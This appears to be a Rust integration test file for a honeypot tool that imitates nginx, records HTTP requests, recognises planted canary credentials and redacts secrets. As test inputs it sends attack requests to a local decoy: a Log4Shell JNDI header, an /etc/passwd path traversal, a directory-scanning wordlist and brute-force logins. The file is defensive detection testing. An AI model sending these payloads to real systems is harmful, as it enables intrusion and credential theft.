//! The HTTP decoy (first part of the HTTP issue) with real curl: nginx's error pages
//! byte for byte, every request stored, and planted canary URLs, bearer tokens and
//! basic-auth passwords recognised.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a failed test, not a crashed decoy

mod common;

use std::process::Command;
use std::time::Duration;

use common::*;

fn http_decoy(name: &str) -> String {
    format!("  - name: {name}\n    type: http\n    listen: 127.0.0.1:0\n    personality: nginx-default\n    limits:\n      idle_timeout_seconds: 3\n")
}

/// Drops the Date header's value so responses compare byte for byte.
fn without_date(response: &[u8]) -> String {
    String::from_utf8_lossy(response).lines().map(|l| if l.starts_with("Date: ") { "Date: *" } else { l }).collect::<Vec<_>>().join("\n")
}

const NGINX_404: &str = "HTTP/1.1 404 Not Found\r\nServer: nginx/1.22.1\r\nDate: Sat, 28 Nov 2026 16:38:33 GMT\r\nContent-Type: text/html\r\nContent-Length: 153\r\nConnection: keep-alive\r\n\r\n<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n<center><h1>404 Not Found</h1></center>\r\n<hr><center>nginx/1.22.1</center>\r\n</body>\r\n</html>\r\n";
const NGINX_405: &str = "HTTP/1.1 405 Not Allowed\r\nServer: nginx/1.22.1\r\nDate: Sat, 28 Nov 2026 16:38:33 GMT\r\nContent-Type: text/html\r\nContent-Length: 157\r\nConnection: keep-alive\r\n\r\n<html>\r\n<head><title>405 Not Allowed</title></head>\r\n<body>\r\n<center><h1>405 Not Allowed</h1></center>\r\n<hr><center>nginx/1.22.1</center>\r\n</body>\r\n</html>\r\n";

#[test]
fn not_found_and_not_allowed_are_byte_for_byte_those_of_debian_nginx() {
    let dir = tempfile::tempdir().unwrap();
    let hw = Honeyward::start(dir.path(), &config(&http_decoy("web")));
    let addr = hw.addr("web");
    // Expected bytes captured from nginx 1.22.1 on Debian 12 (decoys/captures/).
    assert_eq!(without_date(&http_raw(addr, b"GET /nope HTTP/1.1\r\nHost: x\r\n\r\n")), without_date(NGINX_404.as_bytes()));
    assert_eq!(without_date(&http_raw(addr, b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\na=b")), without_date(NGINX_405.as_bytes()));
    let index = http_raw(addr, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n");
    let text = String::from_utf8_lossy(&index);
    assert!(text.starts_with("HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nDate: ") && text.contains("<title>Welcome to nginx!</title>"), "{text}");

    let db = hw.store();
    assert!(eventually(10, || count_kind(&db, "http_request") == 3));
    let post = &bodies(&db, "http_request")[1]["details"];
    assert_eq!(post["status"], 405);
    assert_eq!(post["body"]["text"], "a=b");
    assert_eq!(post["body_bytes"], 3);
    assert_eq!(post["headers"][0]["name"]["text"], "Host", "headers are stored as a name/value list, names as sent");
}

#[test]
fn canary_urls_bearer_tokens_and_basic_auth_passwords_raise_token_hits() {
    let dir = tempfile::tempdir().unwrap();
    let hw = Honeyward::start(dir.path(), &config(&http_decoy("web")));
    let addr = hw.addr("web");
    let cli = |args: &[&str]| cli(dir.path(), args);
    cli(&["token", "create", "url", "--label", "intranet links page", "--endpoint", &format!("http://{addr}"), "--plant", "www/links.html"]);
    let page = std::fs::read_to_string(dir.path().join("www/links.html")).unwrap();
    let url = page.split("href=\"").nth(1).unwrap().split('"').next().unwrap().to_string();
    assert!(url.starts_with(&format!("http://{addr}/")), "{url}");
    cli(&["token", "create", "bearer", "--label", "k8s deployer", "--endpoint", &format!("http://{addr}"), "--plant", "kube/config"]);
    let kube = std::fs::read_to_string(dir.path().join("kube/config")).unwrap();
    let bearer = kube.lines().find_map(|l| l.trim().strip_prefix("token: ")).unwrap().to_string();
    cli(&["token", "create", "http-basic", "--label", "nas admin", "--username", "admin", "--password", "Plinth-Orbis-Tarn41?", "--plant", "nas/.env"]);
    std::thread::sleep(Duration::from_millis(1200));

    let curl = |args: &[&str]| assert!(Command::new("curl").args(["-s", "-o", "/dev/null"]).args(args).status().unwrap().success());
    curl(&["-A", "Mozilla/5.0 (Windows NT 10.0)", &url]);
    curl(&["-H", &format!("Authorization: Bearer {bearer}"), &format!("http://{addr}/api/v1/namespaces")]);
    curl(&["-u", "admin:Plinth-Orbis-Tarn41?", &format!("http://{addr}/")]);
    curl(&["-u", "admin:guess", &format!("http://{addr}/")]);

    let db = hw.store();
    assert!(eventually(10, || count_kind(&db, "http_request") == 4));
    let reqs = bodies(&db, "http_request");
    assert_eq!(reqs[0]["token"]["label"], "intranet links page");
    assert_eq!(reqs[0]["details"]["user_agent"]["text"], "Mozilla/5.0 (Windows NT 10.0)");
    assert!(reqs[0]["source"].as_str().unwrap().starts_with("127.0.0.1:"));
    assert_eq!(reqs[1]["token"]["label"], "k8s deployer");
    assert!(reqs[1]["details"]["credential"].get("secret").is_none(), "the planted bearer token is not stored");
    assert_eq!(reqs[2]["token"]["label"], "nas admin");
    assert!(reqs[3].get("token").is_none());
    assert_eq!(reqs[3]["details"]["credential"]["secret"]["text"], "guess", "other logins are recorded with their password");
    let raw_db = std::fs::read(dir.path().join("honeyward.db")).unwrap();
    assert!(!raw_db.windows(bearer.len()).any(|w| w == bearer.as_bytes()));
}

#[test]
fn exploit_patterns_and_wordlist_scanning_are_tagged() {
    let dir = tempfile::tempdir().unwrap();
    let hw = Honeyward::start(dir.path(), &config(&http_decoy("web")));
    let addr = hw.addr("web");
    let base = format!("http://{addr}");
    let curl = |args: &[&str]| assert!(Command::new("curl").args(["-s", "-o", "/dev/null", "--path-as-is"]).args(args).status().unwrap().success());
    curl(&["-H", "X-Api-Version: ${jndi:ldap://198.51.100.7/a}", &format!("{base}/")]);
    curl(&[&format!("{base}/cgi-bin/../../../../etc/passwd")]);
    for word in [
        "admin",
        "backup",
        "wp-admin",
        "phpmyadmin",
        "old",
        "test",
        "dev",
        "api",
        "console",
        "manager",
        "db",
        "sql",
        "dump",
        "temp",
        "tmp",
        "logs",
        "private",
        "secret",
        "config",
        "portal",
        "login",
        "setup",
    ] {
        curl(&[&format!("{base}/{word}")]);
    }
    let db = hw.store();
    assert!(eventually(10, || count_kind(&db, "http_request") == 24));
    let out = Command::new(BIN).args(["events", "list", "--json", "--kind", "http_request", "--limit", "100"]).current_dir(dir.path()).output().unwrap();
    let events: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(events[0]["details"]["tags"][0], "exploit");
    assert_eq!(events[0]["attack"]["id"], "T1190");
    assert_eq!(events[0]["severity"], "high");
    assert_eq!(events[1]["attack"]["id"], "T1190");
    assert!(events[2]["details"].get("tags").is_none(), "the first 404s are not yet a scan");
    assert_eq!(events[23]["details"]["tags"][0], "scanning");
    assert_eq!(events[23]["attack"]["id"], "T1595.003");
}

#[test]
fn aws_cli_with_a_planted_key_pointed_at_the_decoy_raises_a_token_hit() {
    let dir = tempfile::tempdir().unwrap();
    let hw = Honeyward::start(dir.path(), &config(&http_decoy("web")));
    let addr = hw.addr("web");
    let endpoint = format!("http://{addr}");
    let out = Command::new(BIN)
        .args(["token", "create", "aws-key", "--label", "build box aws", "--endpoint", &endpoint, "--plant", "aws/credentials"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(out.status.success());
    std::thread::sleep(Duration::from_millis(1200));
    let aws = Command::new("aws")
        .args(["s3", "ls", "--endpoint-url", &endpoint])
        .env("AWS_SHARED_CREDENTIALS_FILE", dir.path().join("aws/credentials"))
        .env("AWS_CONFIG_FILE", "/dev/null")
        .env("AWS_DEFAULT_REGION", "eu-west-2")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .env("AWS_MAX_ATTEMPTS", "1")
        .output()
        .expect("aws CLI must be installed: scripts/test.sh installs it from PyPI");
    let err = String::from_utf8_lossy(&aws.stderr);
    assert!(!aws.status.success() && err.contains("InvalidAccessKeyId"), "{err}");
    let db = hw.store();
    assert!(eventually(10, || bodies(&db, "http_request").iter().any(|r| r.get("token").is_some())));
    let hit = bodies(&db, "http_request").into_iter().find(|r| r.get("token").is_some()).unwrap();
    assert_eq!(hit["token"]["label"], "build box aws");
    assert_eq!(hit["details"]["credential"]["scheme"], "aws-sigv4");
    assert_eq!(hit["details"]["status"], 403);
}

#[test]
fn the_ehr_portal_keeps_sessions_checks_csrf_locks_after_five_failures_records_every_form_login_and_a_planted_password_raises_a_token_hit() {
    let dir = tempfile::tempdir().unwrap();
    let decoy = http_decoy("ehr").replace("personality: nginx-default", "personality: ehr-login");
    let hw = Honeyward::start(dir.path(), &config(&decoy));
    let addr = hw.addr("ehr");
    let out = Command::new(BIN)
        .args([
            "token",
            "create",
            "http-basic",
            "--label",
            "EHR login on ward PC",
            "--username",
            "dr.patel",
            "--password",
            "Quill-Harbor-Vexa72%",
            "--plant",
            "ward/.env",
            "--note",
            "ward 7 nurses' station",
        ])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(out.status.success());
    std::thread::sleep(Duration::from_millis(1200));

    // A browser's visit: the page sets a session cookie and carries a CSRF token.
    let jar = dir.path().join("cookies.txt");
    let curl = |args: &[&str]| {
        let out = Command::new("curl").args(["-s", "-b", jar.to_str().unwrap(), "-c", jar.to_str().unwrap()]).args(args).output().unwrap();
        String::from_utf8_lossy(&out.stdout).to_string()
    };
    let page = curl(&[&format!("http://{addr}/")]);
    assert!(page.contains("<title>Clinical Portal - Sign in</title>"));
    assert!(std::fs::read_to_string(&jar).unwrap().contains("PHPSESSID"), "a session cookie");
    let token = page.split("name=\"csrf_token\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_string();
    let post = |user: &str, pass: &str, token: &str| {
        let started = std::time::Instant::now();
        let answer = curl(&[
            "--data-urlencode",
            &format!("csrf_token={token}"),
            "--data-urlencode",
            &format!("username={user}"),
            "--data-urlencode",
            &format!("password={pass}"),
            &format!("http://{addr}/login"),
        ]);
        (answer, started.elapsed())
    };
    let (answer, took) = post("admin", "admin", &token);
    assert!(answer.contains("Your username or password is incorrect"), "{answer}");
    assert!(took >= Duration::from_millis(150), "a failed sign-in takes a password check's time: {took:?}");
    assert!(post("dr.patel", "Quill-Harbor-Vexa72%", &token).0.contains("Your username or password is incorrect"));
    assert!(post("admin", "admin", "forged").0.contains("Your session has expired"), "a forged CSRF token");
    // Five failures lock the username, with the application's message.
    for _ in 0..3 {
        post("admin", "admin", &token);
    }
    assert!(post("admin", "admin", &token).0.contains("This account has been locked"));
    assert!(post("Admin", "admin", &token).0.contains("This account has been locked"), "whatever the case");
    assert!(post("dr.jones", "x", &token).0.contains("incorrect"), "another user is not locked");
    // The stylesheet and script are static files nginx serves; a POST to them gets nginx's 405.
    assert!(curl(&[&format!("http://{addr}/static/portal.css")]).contains("font-family"));
    assert!(curl(&[&format!("http://{addr}/static/portal.js")]).contains("getModifierState"));
    assert!(curl(&["-X", "POST", &format!("http://{addr}/static/portal.css")]).contains("<title>405 Not Allowed</title>"));

    let db = hw.store();
    assert!(eventually(10, || count_kind(&db, "http_request") == 13));
    let reqs = bodies(&db, "http_request");
    assert!(reqs[3]["details"]["tags"].as_array().unwrap().iter().any(|t| t == "csrf-missing"), "{}", reqs[3]);
    assert!(reqs[7]["details"]["tags"].as_array().unwrap().iter().any(|t| t == "account-locked"), "{}", reqs[7]);
    assert_eq!(reqs[1]["details"]["credential"]["scheme"], "form");
    assert_eq!(reqs[1]["details"]["credential"]["username"]["text"], "admin");
    assert_eq!(reqs[1]["details"]["credential"]["secret"]["text"], "admin");
    assert!(reqs[1].get("token").is_none());
    assert_eq!(reqs[2]["token"]["label"], "EHR login on ward PC");
    assert_eq!(reqs[2]["token"]["plants"][0]["note"], "ward 7 nurses' station");
    assert_eq!(reqs[2]["details"]["credential"]["username"]["text"], "dr.patel");
    assert!(reqs[2]["details"]["credential"].get("secret").is_none(), "the planted password is not stored");
    // A form login is a password tried (credential access), not service discovery.
    let listed = cli(dir.path(), &["events", "list", "--json", "--kind", "http_request", "--limit", "100", "-c", "honeyward.yaml"]);
    let login: serde_json::Value = serde_json::from_str(listed.lines().nth(1).unwrap()).unwrap();
    assert_eq!(login["details"]["credential"]["scheme"], "form");
    assert_eq!(login["attack"]["id"], "T1110.001", "{login}");
}

#[test]
fn a_planted_secret_occurs_nowhere_in_the_database_or_any_sink_output_once_it_is_recognised() {
    let dir = tempfile::tempdir().unwrap();
    let decoys = http_decoy("web") + &http_decoy("ehr").replace("personality: nginx-default", "personality: ehr-login");
    let sinks = "  - name: cef-archive\n    type: file\n    path: events.cef\n    format: cef\n    fsync: false\n";
    let hw = Honeyward::start(dir.path(), &(config(&decoys) + sinks));
    let password = "Quill Harbor!Vexa72%";
    let cli = |args: &[&str]| cli(dir.path(), args);
    cli(&["token", "create", "http-basic", "--label", "nas admin", "--username", "admin", "--password", password, "--plant", "nas/.env"]);
    std::thread::sleep(Duration::from_millis(1200));

    let encoded = "Quill%20Harbor%21Vexa72%25";
    let (web, ehr) = (hw.addr("web"), hw.addr("ehr"));
    let curl = |args: &[&str]| assert!(Command::new("curl").args(["-s", "-o", "/dev/null"]).args(args).status().unwrap().success());
    // The secret in the Authorization header, the query string and another header.
    curl(&["-u", &format!("admin:{password}"), "-H", &format!("X-Debug: {password}"), &format!("http://{web}/admin?pw={encoded}")]);
    // The secret in a form body, percent-encoded.
    curl(&["--data-urlencode", "username=admin", "--data-urlencode", &format!("password={password}"), &format!("http://{ehr}/login")]);

    let db = hw.store();
    assert!(eventually(10, || bodies(&db, "http_request").iter().filter(|r| r.get("token").is_some()).count() == 2), "both are token hits");
    assert!(eventually(10, || std::fs::read_to_string(dir.path().join("events.cef")).is_ok_and(|t| t.lines().count() >= 6)));
    let hits: Vec<serde_json::Value> = bodies(&db, "http_request").into_iter().filter(|r| r.get("token").is_some()).collect();
    assert!(hits.iter().all(|h| h["token"]["label"] == "nas admin"));
    use base64::Engine;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("admin:{password}"));
    let forms = [password.to_string(), encoded.to_string(), "Quill+Harbor%21Vexa72%25".to_string(), basic];
    let mut places = vec!["honeyward.db", "honeyward.db-wal", "events.jsonl", "events.cef", "stdout.log"];
    places.retain(|p| dir.path().join(p).exists());
    for place in &places {
        let raw = std::fs::read(dir.path().join(place)).unwrap();
        for form in &forms {
            assert!(!raw.windows(form.len()).any(|w| w == form.as_bytes()), "{place} holds the secret as {form:?}");
        }
    }
    let text = serde_json::to_string(&hits).unwrap();
    assert!(text.contains("pw=[redacted]") && text.contains("Basic [redacted]") && text.contains("password=[redacted]"), "{text}");
}
